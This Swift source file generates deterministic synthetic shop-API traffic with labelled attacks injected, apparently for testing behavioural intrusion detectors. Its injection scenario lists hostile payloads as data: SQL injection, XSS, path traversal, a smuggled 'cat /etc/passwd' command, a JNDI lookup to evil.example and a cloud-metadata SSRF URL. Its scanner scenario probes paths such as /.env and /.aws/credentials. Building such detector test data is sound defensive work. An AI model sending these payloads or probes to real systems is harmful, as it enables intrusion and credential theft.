#if canImport(Glibc)
import Glibc
#elseif canImport(Darwin)
import Darwin
#endif
import SightlineCore

/// A deterministic generator of benign multi-user API traffic with labelled attacks injected,
/// for tests, benchmarks and demos of the behavioural detectors.
///
/// Invariants:
/// - The same configuration (seed included) gives the same events, byte for byte.
/// - Events are sorted by timestamp; ids are `e<n>` and unique; every event has a route.
/// - Benign traffic uses 100.64.0.0/10, 10.0.0.0/8 and 192.0.2.0/24 addresses; attackers use
///   203.0.113.0/24 and 198.51.100.0/24, so a label never collides with a benign actor.
///
/// ```swift
/// let traffic = LabelledTrafficGenerator(.init(seed: 7, benignEvents: 50_000)).generate()
/// let engine = DetectionEngine()
/// _ = engine.process(traffic.events)
/// ```
public struct LabelledTrafficGenerator: Sendable {
    public struct Configuration: Sendable {
        public var seed: UInt64
        /// µs since the epoch; default 2024-05-01T06:00:00Z.
        public var startMicros: Int64 = 1_714_543_200_000_000
        public var duration: Duration = .seconds(6 * 3600)
        public var benignEvents: Int
        public var users: Int = 3_000
        public var consumers: Int = 40
        public var integrations: Int = 4
        public var attacks: [AttackKind] = AttackKind.allCases
        /// The first attack starts this long after `startMicros` (baselines warm up before).
        public var firstAttackAfter: Duration = .seconds(90 * 60)
        public var attackSpacing: Duration = .seconds(20 * 60)

        public init(seed: UInt64 = 42, benignEvents: Int = 200_000, attacks: [AttackKind] = AttackKind.allCases) {
            self.seed = seed
            self.benignEvents = benignEvents
            self.attacks = attacks
        }
    }

    public let configuration: Configuration
    public init(_ configuration: Configuration) { self.configuration = configuration }

    /// Generates the benign traffic and the configured attacks.
    public func generate() -> LabelledTraffic {
        var g = Builder(configuration)
        g.benign()
        var scenarios: [AttackScenario] = []
        let spacing = configuration.attackSpacing.micros
        var start = configuration.startMicros + configuration.firstAttackAfter.micros
        for kind in configuration.attacks {
            scenarios.append(g.attack(kind, start: start))
            start += spacing
        }
        var events = g.events
        events.sort { ($0.timestampMicros, $0.id ?? "") < ($1.timestampMicros, $1.id ?? "") }
        return LabelledTraffic(events: events, scenarios: scenarios)
    }
}

/// The kinds of attack the generator can inject.
public enum AttackKind: String, Sendable, CaseIterable, Codable {
    case bruteForce = "brute-force"
    case credentialStuffing = "credential-stuffing"
    case passwordSpraying = "password-spraying"
    case enumeration
    case scanner
    /// 404 burst and sensitive-file probes with an ordinary user agent.
    case probe
    case rateAbuse = "rate-abuse"
    case scraping
    case injection

    /// The detector expected to catch it.
    public var expectedDetector: DetectorKind {
        switch self {
        case .bruteForce: .bruteForce
        case .credentialStuffing: .credentialStuffing
        case .passwordSpraying: .passwordSpraying
        case .enumeration: .enumeration
        case .scanner, .probe: .scanning
        case .rateAbuse: .rateAbuse
        case .scraping: .exfiltration
        case .injection: .injectionBurst
        }
    }
}

/// One injected attack: what, who, when.
public struct AttackScenario: Sendable, Equatable {
    public var kind: AttackKind
    /// The entity the expected detector should name.
    public var entity: DetectionEntity
    /// Every entity that is part of the attack (attacker IPs, targeted user …): a detection
    /// naming any of them is a true positive, whichever detector raised it.
    public var involved: Set<DetectionEntity>
    public var startMicros: Int64
    public var endMicros: Int64
    public var eventCount: Int
}

/// Generated events (sorted by time) and the attacks inside them.
public struct LabelledTraffic: Sendable {
    public var events: [Event]
    public var scenarios: [AttackScenario]
}

/// SplitMix64: tiny, fast, and the same on every platform.
struct SeededRandom {
    private var state: UInt64
    init(seed: UInt64) { state = seed }
    mutating func next() -> UInt64 {
        state &+= 0x9e37_79b9_7f4a_7c15
        return StableHash.mix(state &- 0x9e37_79b9_7f4a_7c15)
    }
    /// Uniform in [0, 1).
    mutating func unit() -> Double { Double(next() >> 11) / Double(1 << 53) }
    mutating func int(_ range: Range<Int>) -> Int { range.lowerBound + Int(next() % UInt64(range.count)) }
    mutating func chance(_ p: Double) -> Bool { unit() < p }
    mutating func pick<T>(_ items: [T]) -> T { items[int(0..<items.count)] }
}

private struct Builder {
    struct User {
        var id: String
        var consumer: String
        var ip: String
        var agent: String
        var orders: [Int]
    }
    let config: LabelledTrafficGenerator.Configuration
    var rng: SeededRandom
    var events: [Event] = []
    var users: [User] = []
    var userCumulative: [Double] = []
    var sequence = 0

    static let browsers = [
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
        "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
        "ShopApp/5.2.1 (iPhone; iOS 17.4; Scale/3.00)",
        "ShopApp/5.2.0 (Android 14; Pixel 8)",
    ]
    static let words = [
        "blue", "running", "shoes", "jacket", "wool", "socks", "kids", "lamp", "desk", "oak", "coffee", "mug",
        "garden", "hose", "winter", "coat", "phone", "case", "charger", "usb", "cable", "backpack", "tent",
    ]
    static let unknownPaths = ["/favicon.ico", "/robots.txt", "/apple-touch-icon.png", "/api/v0/orders", "/sitemap.xml"]

    init(_ config: LabelledTrafficGenerator.Configuration) {
        self.config = config
        rng = SeededRandom(seed: config.seed)
        var total = 0.0
        for i in 0..<config.users {
            // Consumers get Zipf-like shares: c-0 (the web app) is the largest.
            let c = Self.zipfIndex(rng.unit(), n: config.consumers)
            let ip: String
            if rng.chance(0.08) {
                ip = "100.64.0.\(rng.int(1..<31))"  // shared NAT / office addresses
            } else {
                ip = "10.\(i / 65_536 % 256).\(i / 256 % 256).\(i % 256)"
            }
            let orders = (0..<rng.int(3..<15)).map { _ in rng.int(100_000..<1_000_000) }
            users.append(User(id: String(10_000 + i), consumer: "c-\(c)", ip: ip, agent: rng.pick(Self.browsers), orders: orders))
            total += 1.0 / (Double(i) + 20)
            userCumulative.append(total)
        }
        userCumulative = userCumulative.map { $0 / total }
    }

    /// Index in 0..<n with probability ∝ 1/(k+1).
    static func zipfIndex(_ u: Double, n: Int) -> Int {
        var h = 0.0
        for k in 0..<n { h += 1 / Double(k + 1) }
        var acc = 0.0
        for k in 0..<n {
            acc += 1 / Double(k + 1) / h
            if u < acc { return k }
        }
        return n - 1
    }

    mutating func pickUser() -> User {
        let u = rng.unit()
        var lo = 0, hi = userCumulative.count - 1
        while lo < hi {
            let mid = (lo + hi) / 2
            if userCumulative[mid] < u { lo = mid + 1 } else { hi = mid }
        }
        return users[lo]
    }

    mutating func emit(
        _ t: Int64, _ method: String, _ path: String, route: String, status: Int, ip: String, agent: String,
        user: String?, consumer: String?, size: Int64, query: [QueryParameter] = []
    ) {
        var e = Event(id: "e\(sequence)", timestampMicros: t, service: "shop-api", method: method, path: path,
                      status: status, durationMs: 5 + rng.unit() * 80)
        sequence += 1
        e.route = route
        e.query = query
        e.clientIP = ip
        e.userAgent = agent
        e.userID = user
        e.consumer = consumer.map { Consumer(id: $0) }
        e.responseSize = size
        events.append(e)
    }

    mutating func size(_ mean: Double) -> Int64 { Int64(mean * (0.4 + 1.2 * rng.unit())) }

    // MARK: benign

    mutating func benign() {
        let start = config.startMicros
        let span = config.duration.micros
        events.reserveCapacity(config.benignEvents + 20_000)
        for _ in 0..<config.benignEvents {
            // Diurnal-ish rate by thinning: low at 06:00, peak around 15:00.
            var t: Int64
            repeat {
                t = start + Int64(rng.unit() * Double(span))
                let hours = Double(t / 1_000_000 % 86_400) / 3600
                let rate = 1 + 0.6 * sin((hours - 9) / 24 * 2 * Double.pi)
                if rng.unit() * 1.6 < rate { break }
            } while true
            if rng.chance(0.08) { integration(t) } else { userEvent(t) }
        }
    }

    mutating func integration(_ t: Int64) {
        let k = rng.int(0..<max(1, config.integrations))
        let ip = "192.0.2.\(10 + k)", agent = "erp-sync/4.1 python-requests/2.31", consumer = "svc-\(k)"
        let r = rng.unit()
        if r < 0.6 {
            let id = rng.int(100_000..<1_000_000)
            emit(t, "GET", "/orders/\(id)", route: "/orders/{id}", status: rng.chance(0.02) ? 404 : 200, ip: ip, agent: agent,
                 user: nil, consumer: consumer, size: size(3_000))
        } else if r < 0.9 {
            emit(t, "GET", "/orders", route: "/orders", status: 200, ip: ip, agent: agent, user: nil, consumer: consumer,
                 size: size(40_000), query: [.init(name: "page", value: String(rng.int(1..<50))), .init(name: "limit", value: "100")])
        } else {
            let id = rng.int(100_000..<1_000_000)
            emit(t, "PUT", "/orders/\(id)", route: "/orders/{id}", status: 200, ip: ip, agent: agent, user: nil,
                 consumer: consumer, size: size(600))
        }
    }

    mutating func userEvent(_ t: Int64) {
        let u = pickUser()
        // 5% of requests come from a roaming mobile address.
        let ip = rng.chance(0.05) ? "100.\(64 + rng.int(0..<32)).\(rng.int(0..<256)).\(rng.int(1..<255))" : u.ip
        let r = rng.unit()
        func fail(_ p: Double, _ ok: Int, _ bad: Int) -> Int { rng.chance(p) ? bad : ok }
        if rng.chance(0.003) {
            emit(t, "GET", "/orders", route: "/orders", status: 503, ip: ip, agent: u.agent, user: u.id, consumer: u.consumer, size: 120)
            return
        }
        switch r {
        case ..<0.04:
            emit(t, "POST", "/login", route: "/login", status: fail(0.06, 200, 401), ip: ip, agent: u.agent,
                 user: u.id, consumer: u.consumer, size: 350)
        case ..<0.08:
            emit(t, "POST", "/auth/token", route: "/auth/token", status: fail(0.02, 200, 401), ip: ip, agent: u.agent,
                 user: u.id, consumer: u.consumer, size: 900)
        case ..<0.22:
            let other = rng.chance(0.02)
            let id = other ? String(10_000 + rng.int(0..<config.users)) : u.id
            emit(t, "GET", "/users/\(id)", route: "/users/{id}", status: other ? fail(0.5, 200, 403) : 200, ip: ip,
                 agent: u.agent, user: u.id, consumer: u.consumer, size: size(1_500))
        case ..<0.25:
            emit(t, "PUT", "/users/\(u.id)", route: "/users/{id}", status: fail(0.03, 200, 422), ip: ip, agent: u.agent,
                 user: u.id, consumer: u.consumer, size: size(1_500))
        case ..<0.42:
            let id = rng.chance(0.01) ? rng.int(100_000..<1_000_000) : rng.pick(u.orders)
            emit(t, "GET", "/orders/\(id)", route: "/orders/{id}", status: fail(0.01, 200, 404), ip: ip, agent: u.agent,
                 user: u.id, consumer: u.consumer, size: size(3_000))
        case ..<0.50:
            emit(t, "GET", "/orders", route: "/orders", status: 200, ip: ip, agent: u.agent, user: u.id,
                 consumer: u.consumer, size: size(12_000), query: [.init(name: "page", value: String(rng.int(1..<4)))])
        case ..<0.54:
            emit(t, "POST", "/orders", route: "/orders", status: fail(0.02, 201, 400), ip: ip, agent: u.agent, user: u.id,
                 consumer: u.consumer, size: size(2_000))
        case ..<0.68:
            emit(t, "GET", "/products/\(rng.int(1..<5_000))", route: "/products/{id}", status: fail(0.01, 200, 404), ip: ip,
                 agent: u.agent, user: u.id, consumer: u.consumer, size: size(4_000))
        case ..<0.78:
            let q = (0..<rng.int(1..<4)).map { _ in rng.pick(Self.words) }.joined(separator: " ")
            emit(t, "GET", "/search", route: "/search", status: 200, ip: ip, agent: u.agent, user: u.id,
                 consumer: u.consumer, size: size(8_000), query: [.init(name: "q", value: q)])
        case ..<0.99:
            let file = rng.pick(["app.3f9a1c.js", "vendor.77e0b2.js", "styles.a1b2c3.css", "logo.svg", "hero.webp"])
            emit(t, "GET", "/static/\(file)", route: "/static/{file}", status: rng.chance(0.2) ? 304 : 200, ip: ip,
                 agent: u.agent, user: nil, consumer: u.consumer, size: size(30_000))
        default:
            let path = rng.pick(Self.unknownPaths)
            emit(t, "GET", path, route: path, status: 404, ip: ip, agent: u.agent, user: u.id, consumer: u.consumer, size: 90)
        }
    }

    // MARK: attacks

    mutating func attack(_ kind: AttackKind, start: Int64) -> AttackScenario {
        let first = events.count
        let second: Int64 = 1_000_000
        var entity: DetectionEntity
        var involved: Set<DetectionEntity> = []
        var end = start
        switch kind {
        case .bruteForce:
            let ip = "203.0.113.10", victim = users[42 % users.count]
            entity = .init(.ip, ip)
            involved = [entity, .init(.user, victim.id)]
            for i in 0..<150 {
                end = start + Int64(i) * 2 * second
                emit(end, "POST", "/login", route: "/login", status: 401, ip: ip, agent: "python-requests/2.28.1",
                     user: victim.id, consumer: nil, size: 120)
            }
        case .credentialStuffing:
            let ip = "203.0.113.20"
            entity = .init(.ip, ip)
            involved = [entity]
            for i in 0..<240 {
                end = start + Int64(i) * 2 * second
                let user = rng.chance(0.3) ? users[rng.int(0..<users.count)].id : "leaked-\(i)@mail.example"
                emit(end, "POST", "/login", route: "/login", status: rng.chance(0.07) ? 200 : 401, ip: ip,
                     agent: rng.pick(Self.browsers), user: user, consumer: "c-0", size: 120)
            }
        case .passwordSpraying:
            entity = .init(.route, "/login")
            involved = [entity]
            let ips = (1...40).map { "198.51.100.\($0)" }
            for ip in ips { involved.insert(.init(.ip, ip)) }
            var tries: [String] = []
            var taken = Set<Int>()
            while taken.count < 150 { taken.insert(rng.int(0..<users.count)) }
            for u in taken.sorted() {
                tries.append(users[u].id)
                if rng.chance(0.1) { tries.append(users[u].id) }
            }
            let span = 15 * 60 * second
            for (i, user) in tries.enumerated() {
                end = start + span * Int64(i) / Int64(tries.count)
                emit(end, "POST", "/login", route: "/login", status: 401, ip: rng.pick(ips), agent: rng.pick(Self.browsers),
                     user: user, consumer: "c-0", size: 120)
            }
        case .enumeration:
            let u = users[77 % users.count]
            entity = .init(.user, u.id)
            involved = [entity]
            for i in 0..<300 {
                end = start + Int64(i) * second
                emit(end, "GET", "/orders/\(500_000 + i)", route: "/orders/{id}", status: rng.chance(0.85) ? 403 : 200,
                     ip: u.ip, agent: u.agent, user: u.id, consumer: u.consumer, size: 800)
            }
        case .scanner, .probe:
            let ip = kind == .scanner ? "203.0.113.30" : "203.0.113.31"
            let agent = kind == .scanner
                ? "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))"
                : "curl/8.4.0"
            entity = .init(.ip, ip)
            involved = [entity]
            let probes = ["/.env", "/.git/config", "/wp-admin/install.php", "/actuator/env", "/server-status",
                          "/phpmyadmin/index.php", "/.aws/credentials", "/backup.sql.gz", "/config.php.bak"]
            let count = kind == .scanner ? 400 : 150
            let span = (kind == .scanner ? 240 : 180) * second
            for i in 0..<count {
                end = start + span * Int64(i) / Int64(count)
                let path = i % 15 == 7 ? probes[(i / 15) % probes.count] : "/\(rng.pick(["admin", "api", "old", "test", "v2", "debug", "cms"]))/\(rng.pick(["login", "config", "console", "index", "docs"]))\(i)"
                emit(end, "GET", path, route: path, status: rng.chance(0.9) ? 404 : 403, ip: ip, agent: agent,
                     user: nil, consumer: nil, size: 90)
            }
        case .rateAbuse:
            let ip = "203.0.113.40", consumer = "c-5"
            entity = .init(.consumer, consumer)
            involved = [entity, .init(.ip, ip)]
            let count = 1_800 * 5
            for i in 0..<count {
                end = start + 300 * second * Int64(i) / Int64(count)
                emit(end, "GET", "/products", route: "/products", status: 200, ip: ip, agent: "Go-http-client/1.1",
                     user: nil, consumer: consumer, size: size(2_000), query: [.init(name: "page", value: "1")])
            }
        case .scraping:
            let ip = "203.0.113.50", consumer = "c-9"
            entity = .init(.consumer, consumer)
            involved = [entity, .init(.ip, ip)]
            for i in 0..<750 {
                end = start + Int64(i) * 1_200_000
                emit(end, "GET", "/orders", route: "/orders", status: 200, ip: ip, agent: "python-requests/2.31",
                     user: nil, consumer: consumer, size: size(800_000),
                     query: [.init(name: "page", value: String(i + 1)), .init(name: "limit", value: "1000")])
            }
        case .injection:
            let ip = "203.0.113.60"
            entity = .init(.ip, ip)
            involved = [entity]
            let payloads = [
                "1' OR '1'='1", "' UNION SELECT username, password FROM users--", "<script>alert(document.cookie)</script>",
                "../../../../etc/passwd", "; cat /etc/passwd", "${jndi:ldap://evil.example/a}", "{{7*7}}",
                "1; DROP TABLE users--", "\"><img src=x onerror=alert(1)>", "http://169.254.169.254/latest/meta-data/",
            ]
            for i in 0..<40 {
                end = start + Int64(i) * 6 * second
                let p = payloads[i % payloads.count]
                if i % 2 == 0 {
                    emit(end, "GET", "/search", route: "/search", status: 200, ip: ip, agent: Self.browsers[0], user: nil,
                         consumer: "c-0", size: 400, query: [.init(name: "q", value: p)])
                } else {
                    emit(end, "GET", "/products/\(p)", route: "/products/{id}", status: 400, ip: ip, agent: Self.browsers[0],
                         user: nil, consumer: "c-0", size: 200)
                }
            }
        }
        return AttackScenario(kind: kind, entity: entity, involved: involved, startMicros: start, endMicros: end,
                              eventCount: events.count - first)
    }
}
